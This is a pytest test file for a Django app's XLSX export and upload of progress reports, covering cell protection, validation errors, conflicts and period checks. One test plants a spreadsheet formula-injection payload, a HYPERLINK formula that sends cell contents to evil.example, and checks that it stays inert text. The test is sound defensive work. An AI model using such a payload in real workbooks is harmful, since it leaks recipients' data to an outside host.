"""The offline round trip: the XLSX opens in LibreOffice; a filled copy uploads; a bad cell refuses all."""

from __future__ import annotations

import io
import shutil
import subprocess
from decimal import Decimal

import pytest
from django.utils import translation
from openpyxl import load_workbook

from planmonitor.monitoring import services, spreadsheets
from planmonitor.monitoring.models import ProgressReport
from tests.monitoring.factories import make_world

pytestmark = pytest.mark.django_db


@pytest.fixture
def world():
    return make_world(measures=6)


def filled(content: bytes, edit) -> bytes:
    """Fill a downloaded sheet as a person would (through a spreadsheet program's cell values)."""
    wb = load_workbook(io.BytesIO(content))
    edit(wb.worksheets[0], wb.worksheets[1])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def fill_all(measures_sheet, indicators_sheet):
    for row in range(2, measures_sheet.max_row + 1):
        measures_sheet.cell(row=row, column=5, value="в изпълнение")
        measures_sheet.cell(row=row, column=6, value="Проведени срещи с родители")
        measures_sheet.cell(row=row, column=7, value=30)
        measures_sheet.cell(row=row, column=12, value=250.5)
        measures_sheet.cell(row=row, column=13, value="BGN")
        measures_sheet.cell(row=row, column=14, value="Общински бюджет")
    for row in range(2, indicators_sheet.max_row + 1):
        numeric = indicators_sheet.cell(row=row, column=7).value == "100 с натрупване"
        indicators_sheet.cell(row=row, column=8, value=7 if numeric else "проведена")


def test_the_sheet_lists_the_institutions_measures_prefilled(world):
    measure = world.own_measure
    services.save_report(measure, world.period, services.ReportInput(done_text="Already typed"),
                         actor=world.users["reporter"], version=0)
    wb = load_workbook(io.BytesIO(spreadsheets.write_workbook(world.period, world.school)))
    sheet = wb.worksheets[0]
    ids = [sheet.cell(row=r, column=1).value for r in range(2, sheet.max_row + 1)]
    assert ids == list(world.plan.measures.filter(institutions=world.school).order_by("position").values_list("pk", flat=True))
    assert sheet.cell(row=2, column=6).value == "Already typed"
    assert sheet.cell(row=2, column=2).value == 1  # the version it was written at
    assert sheet.protection.sheet is True
    assert sheet.cell(row=2, column=1).protection.locked is True
    assert sheet.cell(row=2, column=5).protection.locked is False
    lists = [dv.formula1 for dv in sheet.data_validations.dataValidation if dv.type == "list"]
    assert any("изпълнена" in f for f in lists)
    assert wb["meta"].sheet_state == "hidden"


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
def test_libreoffice_opens_the_sheet(world, tmp_path):
    path = tmp_path / "report.xlsx"
    path.write_bytes(spreadsheets.write_workbook(world.period, world.school))
    done = subprocess.run(  # noqa: S603 - fixed arguments, our own file
        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--convert-to", "csv",
         "--outdir", str(tmp_path), str(path)],
        capture_output=True, timeout=120, check=False,
    )
    assert done.returncode == 0, done.stderr
    csv = (tmp_path / "report.csv").read_text(encoding="utf-8", errors="replace")
    assert world.own_measure.text in csv


def test_a_filled_copy_uploads_back_whole(world):
    content = filled(spreadsheets.write_workbook(world.period, world.school), fill_all)
    result = spreadsheets.read_workbook(world.period, content, actor=world.users["coordinator"])
    assert result.problems == []
    expected = world.plan.measures.filter(institutions=world.school).count()
    assert result.saved == expected
    report = ProgressReport.objects.get(measure=world.own_measure)
    assert (report.measure_status, report.people_reached) == ("in_progress", 30)
    assert report.expenditures.get().amount == Decimal("250.50")
    assert report.values.get(indicator__position=1).value == Decimal("7")
    assert report.values.get(indicator__position=2).text == "проведена"


def test_a_bad_cell_refuses_the_whole_upload_and_names_the_cell(world):
    def bad(measures_sheet, indicators_sheet):
        fill_all(measures_sheet, indicators_sheet)
        measures_sheet.cell(row=3, column=7, value="много")        # people reached: not a number
        measures_sheet.cell(row=2, column=13, value="EUR")          # euro in a 2025 period
        indicators_sheet.cell(row=2, column=8, value="седем")       # numeric indicator as text

    content = filled(spreadsheets.write_workbook(world.period, world.school), bad)
    result = spreadsheets.read_workbook(world.period, content, actor=world.users["coordinator"])
    places = {(p.sheet, p.row, p.column) for p in result.problems}
    titles = spreadsheets.sheet_titles()
    assert places == {(titles[0], 3, "G"), (titles[0], 2, "M"), (titles[1], 2, "H")}
    assert result.saved == 0
    assert not ProgressReport.objects.exists()
    with translation.override("en"):
        assert "row 3, column G" in str(next(p for p in result.problems if p.column == "G"))


def test_a_conflict_on_one_row_saves_nothing(world):
    content = filled(spreadsheets.write_workbook(world.period, world.school), fill_all)
    # Someone saves one of the measures in the browser after the sheet was downloaded.
    services.save_report(world.own_measure, world.period, services.ReportInput(done_text="browser"),
                         actor=world.users["reporter"], version=0)
    result = spreadsheets.read_workbook(world.period, content, actor=world.users["coordinator"])
    assert len(result.problems) == 1 and result.saved == 0
    assert ProgressReport.objects.count() == 1
    assert ProgressReport.objects.get().done_text == "browser"


def test_a_sheet_of_another_period_is_refused(world):
    content = spreadsheets.write_workbook(world.neighbour_period, world.school)
    result = spreadsheets.read_workbook(world.period, content, actor=world.users["coordinator"])
    assert [(p.sheet, p.row, p.column) for p in result.problems] == [("meta", 2, "B")]


def test_not_a_workbook(world):
    result = spreadsheets.read_workbook(world.period, b"hello", actor=world.users["coordinator"])
    assert len(result.problems) == 1


def test_upload_through_the_page_lists_problems(client, world):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    def bad(measures_sheet, indicators_sheet):
        fill_all(measures_sheet, indicators_sheet)
        measures_sheet.cell(row=2, column=5, value="почти готово")

    content = filled(spreadsheets.write_workbook(world.period, world.school), bad)
    client.force_login(world.users["coordinator"])
    client.cookies["django_language"] = "en"  # chosen with the language switch
    response = client.post(reverse("monitoring:xlsx_upload", args=[world.period.pk]),
                           {"file": SimpleUploadedFile("r.xlsx", content)})
    assert response.status_code == 400
    assert "<td>2</td><td>E</td>" in response.content.decode()  # row and column, in the table of problems
    assert not ProgressReport.objects.exists()


def test_text_that_looks_like_a_formula_stays_text_and_survives_the_round_trip(world):
    """A reporter's "=HYPERLINK(...)" is never a live formula in the coordinator's workbook, and
    uploading the workbook back unchanged keeps every text exactly as it was (it used to erase it)."""
    planted = '=HYPERLINK("http://evil.example/?d="&F2,"Отвори")'
    measure = world.own_measure
    measure.text = "-обучения за родители"
    measure.save(update_fields=["text"])
    text_indicator = measure.indicators.get(position=2)
    services.save_report(
        measure, world.period,
        services.ReportInput(measure_status="in_progress", done_text=planted, values={text_indicator.pk: "@SUM(1;2)"}),
        actor=world.users["reporter"], version=0,
    )
    content = spreadsheets.write_workbook(world.period, world.school)
    wb = load_workbook(io.BytesIO(content))
    formulas = [c.coordinate for sheet in wb.worksheets for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    measures_sheet = wb.worksheets[0]
    assert measures_sheet.cell(row=2, column=6).value == planted
    assert measures_sheet.cell(row=2, column=6).quotePrefix is True
    assert measures_sheet.cell(row=2, column=4).value == "-обучения за родители"
    values = load_workbook(io.BytesIO(content), data_only=True)  # what a spreadsheet program shows
    assert values.worksheets[0].cell(row=2, column=6).value == planted
    assert "@SUM(1;2)" in [c.value for row in values.worksheets[1].iter_rows() for c in row]

    result = spreadsheets.read_workbook(world.period, content, actor=world.users["coordinator"])
    assert result.problems == []
    report = ProgressReport.objects.get(measure=measure, period=world.period)
    assert report.done_text == planted
    assert report.values.get(indicator=text_indicator).raw == "@SUM(1;2)"


def test_no_workbook_for_an_institution_of_another_plan(client, world):
    """The download names the institution and its plan's period: only institutions of this plan get one."""
    from django.urls import reverse

    from planmonitor.accounts.models import Institution

    theirs = Institution.objects.create(abbreviation="NS", name="Neighbour school", municipality=world.neighbour)
    world.neighbour_plan.measures.first().institutions.add(theirs)
    client.force_login(world.users["coordinator"])
    url = reverse("monitoring:xlsx_download", args=[world.period.pk, theirs.pk])
    assert client.get(url).status_code == 404
    assert client.get(reverse("monitoring:xlsx_download", args=[world.period.pk, world.school.pk])).status_code == 200

    def other_institution(measures_sheet, indicators_sheet):
        measures_sheet.parent["meta"]["B3"] = theirs.pk

    content = filled(spreadsheets.write_workbook(world.period, world.school), other_institution)
    result = spreadsheets.read_workbook(world.period, content, actor=world.users["coordinator"])
    assert [(p.sheet, p.row, p.column) for p in result.problems] == [("meta", 3, "B")]
